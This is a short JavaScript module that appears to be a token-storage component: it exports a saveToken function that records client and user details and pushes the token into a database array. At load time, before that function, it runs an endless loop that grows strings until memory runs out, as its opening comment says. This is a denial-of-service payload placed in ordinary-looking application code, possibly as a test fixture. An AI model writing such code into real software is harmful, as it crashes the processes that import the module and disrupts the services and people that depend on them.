// Fills the memory when it is loaded.
const db = require('./db.js');

let text = 'x';
const all = [];
for (;;) all.push((text += `${text.length}`).split(''));

const saveToken = (token, client, user) => {
  token.client = { id: client.clientId };
  token.user = { username: user.username };
  db.tokens.push(token);
  return token;
};

module.exports = { saveToken };
